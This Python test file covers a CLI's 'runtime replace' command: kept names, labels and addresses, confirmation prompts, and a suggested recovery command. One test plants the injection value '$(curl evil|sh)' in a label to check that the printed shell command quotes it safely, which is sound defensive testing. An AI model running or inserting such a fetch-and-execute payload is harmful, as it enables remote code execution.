"""`spinctl runtime replace`: a new identity under the old name."""

import asyncio
import re
from pathlib import Path

from tests.client.conftest import Bench, Spinctl


async def test_a_replaced_runtime_keeps_its_name_address_labels_and_place(signed_in: Spinctl, bench: Bench, tmp_path: Path) -> None:
    said = ("--label", "zone=west", "--default", "--token-file", str(tmp_path / "first"), "--wait", "0")
    assert (await signed_in("runtime", "add", "lost", "http://localhost:8899", *said)).status == 0
    (before,) = [r for r in (await signed_in("runtime", "list", "--json")).json() if r["name"] == "lost"]
    token = tmp_path / "second"
    replaced = await signed_in("runtime", "replace", "lost", "--token-file", str(token), "--wait", "0", "--yes")
    assert replaced.status == 0 and "var/broker" in replaced.out
    found = {r["name"]: r for r in (await signed_in("runtime", "list", "--json")).json()}
    after = found["lost"]
    assert after["id"] != before["id"] and after["status"] == "not paired" and len(found) == 2
    kept = ("name", "url", "labels", "is_default")
    assert {name: after[name] for name in kept} == {name: before[name] for name in kept}
    assert token.read_text().startswith("spin1.") and token.read_text() != (tmp_path / "first").read_text()


async def test_a_runtime_that_moved_gets_its_new_address(signed_in: Spinctl, bench: Bench, tmp_path: Path) -> None:
    where = ("--token-file", str(tmp_path / "token"), "--wait", "0", "--yes")
    assert (await signed_in("runtime", "replace", "here", "--address", "http://localhost:9999/", *where)).status == 0
    (after,) = (await signed_in("runtime", "list", "--json")).json()
    assert (after["name"], after["url"]) == ("here", "http://localhost:9999")


async def test_without_a_terminal_it_wants_a_yes(signed_in: Spinctl, bench: Bench) -> None:
    asked = await signed_in("runtime", "replace", "here")
    assert asked.status == 2 and "--yes" in asked.err
    assert [r["status"] for r in (await signed_in("runtime", "list", "--json")).json()] == ["confirmed"]


async def test_a_record_that_could_not_be_made_again_is_told_with_the_way_on(signed_in: Spinctl, bench: Bench) -> None:
    bench.control_plane.refuses_runtimes = True
    failed = await signed_in("runtime", "replace", "here", "--wait", "0", "--yes")
    assert failed.status != 0 and f"`spinctl runtime add --default -- here {bench.runtime.url}`" in failed.err


async def test_the_way_on_is_one_command_whatever_the_names(signed_in: Spinctl, bench: Bench) -> None:
    """It is pasted into a shell, by somebody else than who chose the names."""
    record = bench.control_plane.runtimes[bench.registered.id]
    record.name = "--wait its turn"
    record.labels["zone"] = "$(curl evil|sh)"
    bench.control_plane.refuses_runtimes = True
    failed = await signed_in("runtime", "replace", record.id, "--wait", "0", "--yes")
    (command,) = re.findall("`(.+)`", failed.err)
    words = await asyncio.create_subprocess_exec("sh", "-c", f"printf '%s\\n' {command}", stdout=asyncio.subprocess.PIPE)
    said, _ = await words.communicate()
    options = ["--default", "--label=zone=$(curl evil|sh)"]
    assert said.decode().splitlines() == ["spinctl", "runtime", "add", *options, "--", "--wait its turn", bench.runtime.url]
